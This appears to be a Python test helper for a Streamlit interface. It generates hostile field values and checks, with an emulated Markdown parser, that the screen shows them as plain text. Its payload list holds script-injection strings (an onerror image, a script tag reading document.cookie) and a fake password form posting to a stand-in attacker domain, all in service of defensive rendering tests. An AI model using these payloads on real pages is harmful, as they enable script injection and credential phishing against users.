"""Hostile text and how to tell whether a screen rendered it as plain text.

`payload` builds a string for a field from the constructs that Streamlit's renderer acts on: HTML,
Markdown links and images, headings, code, Streamlit's :colour[] directives, :material/icons:, emoji
shortcodes, $LaTeX$, GFM's literal autolinks. Each carries a marker ("HX007X") so that a check can tell
which payload an element shows. `markdown_problems` parses an element's Markdown the way Streamlit does
(CommonMark + GFM tables and strikethrough, HTML enabled, plus its directives, icons and math, emulated
below) and lists what the payload turned into; an empty list means it shows as typed.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline

from ui.widgets import WORD_JOINER

PIECES = (
    "<img src=x onerror=alert(1)>",
    "[点我](https://evil.example/login)",
    ":red[红字]",
    "$x^2$",
    "**粗**",
    "`code`",
    ":material/home:",
    ":smile:",
    "www.evil.example",
    "a@evil.example",
    "&lt;b&gt;",
    "![图](https://evil.example/i.png)",
    "<form action=https://evil.example><input name=pw type=password><button>登录</button></form>",
    "<script>alert(document.cookie)</script>",
    ":blue-background[蓝底]",
    "_斜_",
    "~~删~~",
    "|表|格|",
    ":streamlit:",
    ":material_home:",
    "<https://evil.example>",
    "\\*",
    "$$\\int x$$",
)
BLOCKS = "\n# 标题\n```\nfence\n```\n\n    indented code\n1. 列表\n- 项目\n> 引用\n|a|b|\n|-|-|\n---\n==="

MARKER = re.compile(r"HX\d{3}X")
_numbers = iter(range(1, 999))
PAYLOADS: dict[str, str] = {}


def payload(limit: int, *, multiline: bool = False, heading: bool = False, long: bool = False) -> str:
    """A hostile string of at most `limit` characters with a fresh marker (recorded in PAYLOADS).

    `heading` starts it with "# " (a heading where the text starts a line); `multiline` adds block
    constructs on lines of their own; `long` pads it towards the limit (a very long string)."""
    marker = f"HX{next(_numbers):03d}X"
    text = ("# " if heading else "") + marker
    for piece in PIECES:
        if len(text) + len(piece) <= limit:
            text += piece
    if multiline and len(text) + len(BLOCKS) <= limit:
        text += BLOCKS
    if long:
        text += "长" * (limit - len(text))
    PAYLOADS[marker] = text
    return text


# --- Streamlit's Markdown, as far as it matters here ------------------------------------------------

_DIRECTIVE = re.compile(r":([A-Za-z][\w-]*)\[")
_ICON = re.compile(r":material/\w+:")


def _directive(state: StateInline, silent: bool) -> bool:
    """:name[label] (remark-directive's text directive; Streamlit's colours, badges, :small[])."""
    match = _DIRECTIVE.match(state.src, state.pos)
    if not match:
        return False
    depth, i = 1, match.end()
    while i < state.posMax and depth:
        if state.src[i] == "\\":
            i += 2
            continue
        depth += {"[": 1, "]": -1}.get(state.src[i], 0)
        i += 1
    if depth:
        return False
    if not silent:
        state.push("st_directive", "", 0).content = state.src[state.pos:i]
    state.pos = i
    return True


def _icon(state: StateInline, silent: bool) -> bool:
    """:material/name: (Streamlit swaps ":material/" in the source before parsing, so escapes inside
    the name do not stop it; only the colon itself counts here)."""
    match = _ICON.match(state.src, state.pos)
    if not match:
        return False
    if not silent:
        state.push("st_icon", "", 0).content = match[0]
    state.pos = match.end()
    return True


def _math(state: StateInline, silent: bool) -> bool:
    """$…$ and $$…$$ (remark-math); an escaped dollar never reaches this rule."""
    if state.src[state.pos] != "$":
        return False
    fence = "$$" if state.src.startswith("$$", state.pos) else "$"
    i = state.pos + len(fence)
    while i < state.posMax:
        if state.src[i] == "\\":
            i += 2
            continue
        if state.src.startswith(fence, i) and i > state.pos + len(fence):
            if not silent:
                state.push("st_math", "", 0).content = state.src[state.pos:i + len(fence)]
            state.pos = i + len(fence)
            return True
        i += 1
    return False


MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
MD.inline.ruler.before("emphasis", "st_directive", _directive)
MD.inline.ruler.before("emphasis", "st_icon", _icon)
MD.inline.ruler.before("emphasis", "st_math", _math)

# Never produced by our own Markdown: any of these in an element that shows a payload is the payload's.
FOREIGN = {"link_open", "image", "html_inline", "html_block", "code_inline", "fence", "code_block", "st_math",
           "table_open", "s_open", "blockquote_open", "hr"}
# What Streamlit's renderer rewrites in the parsed text (icons, emoji, the logo; GFM's literal autolinks).
LIVE_TEXT = re.compile(r":[A-Za-z0-9_+/-]+:|(?i:https?://|www\.)|[-.\w+]+@[-\w]+\.[-\w]")


def _flat(tokens):
    for token in tokens:
        yield token
        if token.children:
            yield from _flat(token.children)


def visible_text(source: str) -> tuple[str, list]:
    """The characters a reader sees of `source` (text only, in order) and all its tokens."""
    tokens = list(_flat(MD.parse(source)))
    parts = []
    for token in tokens:
        if token.type in ("text", "text_special"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append("\n")
        elif token.type == "paragraph_close":
            parts.append("\n")
    return "".join(parts), tokens


def squeezed(text: str) -> str:
    return re.sub(r"[\s\u00a0]+", " ", text.replace(WORD_JOINER, "")).strip()


def markdown_problems(source: str) -> list[str]:
    """What the payloads shown in this Markdown `source` turned into; [] when each shows as typed."""
    markers = set(MARKER.findall(source))
    if not markers:
        return []
    text, tokens = visible_text(source)
    problems = [f"{t.type} {t.content or t.attrs!r}" for t in tokens if t.type in FOREIGN]
    problems += [f"{t.type} {t.content}" for t in tokens
                 if t.type in ("st_directive", "st_icon") and MARKER.search(t.content)]
    problems += [f"heading {t.map}" for i, t in enumerate(tokens)
                 if t.type == "heading_open" and MARKER.search(tokens[i + 1].content)]
    problems += [f"rewritten in the text: {m[0]!r}" for m in LIVE_TEXT.finditer(text)]
    for marker in markers:
        if squeezed(PAYLOADS[marker]) not in squeezed(text):
            problems.append(f"{marker} not shown as typed: {squeezed(text)[:300]!r}")
    return problems


def plain_text_problems(shown: str) -> list[str]:
    """For elements that show text as it is (selectbox options): each payload must appear unchanged."""
    return [f"{marker} altered in plain text: {shown[:200]!r}" for marker in set(MARKER.findall(shown))
            if PAYLOADS[marker] not in shown]
